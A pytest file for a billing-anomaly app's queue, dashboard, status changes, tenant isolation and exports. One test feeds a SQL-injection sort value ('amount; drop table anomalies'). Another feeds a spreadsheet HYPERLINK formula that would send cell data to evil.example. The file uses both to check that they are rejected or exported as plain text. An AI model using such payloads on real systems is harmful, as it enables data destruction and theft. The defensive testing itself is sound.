"""The read side the app and API stand on: queue filters, dashboard aggregates, status changes.

Run on SQLite and PostgreSQL against the demo organization (a real reconciliation's output).
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections import defaultdict
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from core.money import plain_decimal
from db.models import Account
from db.session import org_session
from services import accounts, activity, anomalies, dashboard, demo, exports, users
from services.anomalies import LEAK_TYPES, AnomalyFilters
from services.context import Actor
from services.errors import InvalidInput, NotFound

ALL = AnomalyFilters()


@pytest.fixture
def demo_actors(app_db: str, tmp_path: Path) -> tuple[Actor, Actor]:
    org = demo.seed_demo(tmp_path / "bundle", accounts=40, seed=11)
    analyst = users.get_user_by_email(demo.DEMO_ANALYST[0])
    admin = users.get_user_by_email(demo.DEMO_ADMIN[0])
    assert analyst is not None and admin is not None
    return Actor.user(org.id, admin.id, "admin"), Actor.user(org.id, analyst.id, "analyst")


def everything(actor: Actor, filters: AnomalyFilters = ALL) -> list[anomalies.AnomalyRow]:
    page = anomalies.list_anomalies(actor, filters, page_size=500)
    assert page.total == len(page.rows)
    return page.rows


def test_filters_return_exactly_the_matching_rows(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    rows = everything(analyst)
    assert len(rows) > 10 and {r.type for r in rows} >= {"under_reported_usage", "over_billing"}
    for filters, keep in [
        (AnomalyFilters(types=("over_billing",)), lambda r: r.type == "over_billing"),
        (AnomalyFilters(currency="EUR"), lambda r: r.currency == "eur"),
        (AnomalyFilters(min_confidence=Decimal("0.9")), lambda r: r.confidence >= Decimal("0.9")),
        (AnomalyFilters(severities=("high", "critical")), lambda r: r.severity in ("high", "critical")),
        (AnomalyFilters(account=rows[0].account_name[:5].upper()),
         lambda r: rows[0].account_name[:5].lower() in (r.account_name or "").lower()),
        (AnomalyFilters(period_from=rows[0].period_start.date()), lambda r: r.period_start >= rows[0].period_start),
    ]:
        assert sorted(r.id for r in everything(analyst, filters)) == sorted(r.id for r in rows if keep(r)), filters


def test_sorting_and_pages_cover_every_row_once(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    total = anomalies.list_anomalies(analyst, ALL, page_size=7)
    seen = []
    for number in range(1, total.pages + 1):
        page = anomalies.list_anomalies(analyst, ALL, page=number, page_size=7, sort="amount")
        seen.extend(page.rows)
    assert len(seen) == total.total == len({r.id for r in seen})
    amounts = [r.amount for r in seen]
    assert amounts == sorted(amounts, reverse=True)
    ascending = anomalies.list_anomalies(analyst, ALL, page_size=500, sort="confidence", descending=False).rows
    assert [r.confidence for r in ascending] == sorted(r.confidence for r in ascending)
    with pytest.raises(InvalidInput, match="sort"):
        anomalies.list_anomalies(analyst, ALL, sort="amount; drop table anomalies")
    with pytest.raises(InvalidInput, match="types: unknown"):
        anomalies.list_anomalies(analyst, AnomalyFilters(types=("nonsense",)))


def test_dashboard_totals_are_per_currency_and_match_the_queue(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    rows = everything(analyst)
    expected: dict[str, Decimal] = defaultdict(Decimal)
    over: dict[str, Decimal] = defaultdict(Decimal)
    for r in rows:
        if r.type in LEAK_TYPES and r.status in ("open", "actioned"):
            expected[r.currency] += r.amount
        if r.type == "over_billing":
            over[r.currency] += r.amount
    summary = dashboard.summary(analyst)
    assert summary.open_leak == dict(expected)
    assert summary.over_billing == dict(over)
    assert summary.accounts_affected == len({r.account_id for r in rows if r.type in LEAK_TYPES})
    assert sum(b["count"] for b in summary.confidence) == len(rows)
    assert sum(p["amount"] for p in summary.by_period) == sum(expected.values())
    assert summary.last_run is not None and summary.last_run.status == "succeeded"
    assert [a["amount"] for a in summary.top_accounts] == sorted((a["amount"] for a in summary.top_accounts),
                                                                 reverse=True)

    leak = next(r for r in rows if r.type in LEAK_TYPES)
    anomalies.set_status(analyst, leak.id, "recovered")
    after = dashboard.summary(analyst)
    assert after.recovered == {leak.currency: leak.amount}
    assert after.open_leak.get(leak.currency, Decimal(0)) == expected[leak.currency] - leak.amount


def test_status_changes_follow_the_rules_and_are_audited(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    first, second = everything(analyst)[:2]
    with pytest.raises(InvalidInput, match="reason"):
        anomalies.set_status(analyst, first.id, "dismissed", "  ")
    with pytest.raises(InvalidInput, match="set by actions and runs"):
        anomalies.set_status(analyst, first.id, "actioned")
    detail = anomalies.set_status(analyst, first.id, "dismissed", "customer on a negotiated credit")
    assert (detail.row.status, detail.status_reason) == ("dismissed", "customer on a negotiated credit")
    assert [h["action"] for h in detail.history] == ["anomaly.dismissed"]
    with pytest.raises(InvalidInput, match="cannot become dismissed"):  # all or nothing
        anomalies.bulk_set_status(analyst, [second.id, first.id], "dismissed", "again")
    assert anomalies.get_anomaly(analyst, second.id).row.status == "open"
    assert anomalies.set_status(analyst, first.id, "open").row.status == "open"
    over = next(row for row in everything(analyst) if row.type == "over_billing")
    with pytest.raises(InvalidInput, match="credit risk: there is nothing to recover"):
        anomalies.bulk_set_status(analyst, [second.id, over.id], "recovered")
    assert anomalies.get_anomaly(analyst, second.id).row.status == "open"
    noted = anomalies.add_note(analyst, first.id, "Called the customer's finance team")
    assert noted.notes[-1]["text"] == "Called the customer's finance team"
    assert activity.verify_audit(analyst).ok


def test_another_org_sees_nothing(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    target = everything(analyst)[0]
    other_org, other_admin = users.create_organization("Other", "other", "o@other.example", "O", "password-9")
    other = Actor.user(other_org.id, other_admin.id, "admin")
    assert anomalies.list_anomalies(other).total == 0
    assert dashboard.summary(other).empty
    with pytest.raises(NotFound):
        anomalies.get_anomaly(other, target.id)
    with pytest.raises(NotFound):
        anomalies.set_status(other, target.id, "recovered")
    with pytest.raises(NotFound):
        accounts.account_view(other, target.account_id)
    assert accounts.search_accounts(other, "") == []
    assert anomalies.get_anomaly(analyst, target.id).row.status == "open"


def test_export_has_every_filtered_row_with_exact_amounts(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    filters = AnomalyFilters(types=("under_reported_usage",))
    rows = everything(analyst, filters)
    data, name = anomalies.export_anomalies(analyst, filters, "csv")
    exported = list(csv.DictReader(io.StringIO(data.decode())))
    assert name == "anomalies.csv" and len(exported) == len(rows)
    by_id = {int(r["id"]): r for r in exported}
    for row in rows:
        assert Decimal(by_id[row.id]["amount"]) == row.amount
    data, name = anomalies.export_anomalies(analyst, filters, "parquet")
    table = pq.read_table(io.BytesIO(data))
    assert name == "anomalies.parquet" and table.num_rows == len(rows)


def test_account_drill_down(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    row = everything(analyst)[0]
    found = accounts.search_accounts(analyst, row.account_id.upper())
    assert [a.account_id for a in found] == [row.account_id]
    view = accounts.account_view(analyst, row.account_id)
    assert row.id in {a.id for a in view.anomalies}
    assert {(p["product_key"], p["period_start"]) for p in view.periods} == {
        (a.product_key, a.period_start) for a in view.anomalies}
    with pytest.raises(NotFound):
        accounts.account_view(analyst, "acct_missing")


def test_account_search_lists_accounts_with_anomalies_first(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    found = accounts.search_accounts(analyst, "")
    counts = defaultdict(int)
    for row in everything(analyst, AnomalyFilters()):
        counts[row.account_id] += 1
    assert [a.anomaly_count for a in found] == [counts[a.account_id] for a in found]
    assert [a.anomaly_count for a in found] == sorted((a.anomaly_count for a in found), reverse=True)
    assert found[0].anomaly_count > 0 and found[-1].anomaly_count == 0  # the demo has clean accounts too
    clean = found[-1]
    assert accounts.get_account(analyst, clean.account_id) == clean
    assert accounts.get_account(analyst, "acct_missing") is None


def test_audit_log_names_people_by_email(demo_actors: tuple[Actor, Actor]) -> None:
    admin, analyst = demo_actors
    target = everything(analyst, AnomalyFilters(types=LEAK_TYPES, statuses=("open",)))[0]
    anomalies.set_status(analyst, target.id, "recovered")
    rows, _ = activity.list_audit(admin)
    latest = rows[0]
    assert latest.actor == f"user:{analyst.user_id}" and latest.who == demo.DEMO_ANALYST[0]
    assert all(not row.who.startswith("user:") for row in rows)


def test_recovered_total_ignores_the_status_filter_but_keeps_the_others(demo_actors: tuple[Actor, Actor]) -> None:
    """The Overview's default filter is open + actioned: the Recovered tile must still show what was recovered."""
    _, analyst = demo_actors
    leak = next(r for r in everything(analyst) if r.type in LEAK_TYPES and r.status == "open")
    anomalies.set_status(analyst, leak.id, "recovered")
    default = AnomalyFilters(statuses=("open", "actioned"))
    summary = dashboard.summary(analyst, default)
    assert summary.recovered == {leak.currency: leak.amount}
    assert dashboard.summary(analyst, AnomalyFilters(statuses=("open",), types=(leak.type,))).recovered == {
        leak.currency: leak.amount}
    # every other filter still applies to the recovered figure
    other_currency = "eur" if leak.currency != "eur" else "usd"
    other_types = tuple(t for t in LEAK_TYPES if t != leak.type)
    for narrower in (AnomalyFilters(statuses=("open",), currency=other_currency),
                     AnomalyFilters(statuses=("open",), types=other_types),
                     AnomalyFilters(statuses=("open",), period_from=leak.period_start.date() + timedelta(days=1))):
        assert dashboard.summary(analyst, narrower).recovered == {}, narrower
    # and the status filter still applies to everything else: the recovered row is not counted as open
    shown = everything(analyst, default)
    assert summary.open_count == sum(1 for r in shown if r.type in LEAK_TYPES)
    assert sum(b["count"] for b in summary.confidence) == len(shown)


def test_a_reason_typed_as_a_formula_is_exported_as_text(demo_actors: tuple[Actor, Actor]) -> None:
    """Finance opens exports in a spreadsheet: text must never arrive as a formula to run."""
    _, analyst = demo_actors
    target = everything(analyst)[0]
    reason = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
    anomalies.set_status(analyst, target.id, "dismissed", reason)
    with org_session(analyst.org_id) as session:  # a customer name from the billing system, say
        session.execute(sa.update(Account).where(Account.account_id == target.account_id).values(name="-2+3"))
    data, _ = anomalies.export_anomalies(analyst, anomalies.AnomalyFilters(statuses=("dismissed",)))
    (row,) = csv.DictReader(io.StringIO(data.decode()))
    assert row["account_name"] == "'-2+3" and row["amount"] == plain_decimal(target.amount)
    archive = exports.export_audit(analyst, target.period_start.date(), target.period_end.date(), "csv").content
    assert archive is not None
    with zipfile.ZipFile(io.BytesIO(archive)) as files:
        (exported,) = [r for r in csv.DictReader(io.StringIO(files.read("anomalies.csv").decode()))
                       if r["id"] == str(target.id)]
    assert exported["status_reason"] == "'" + reason
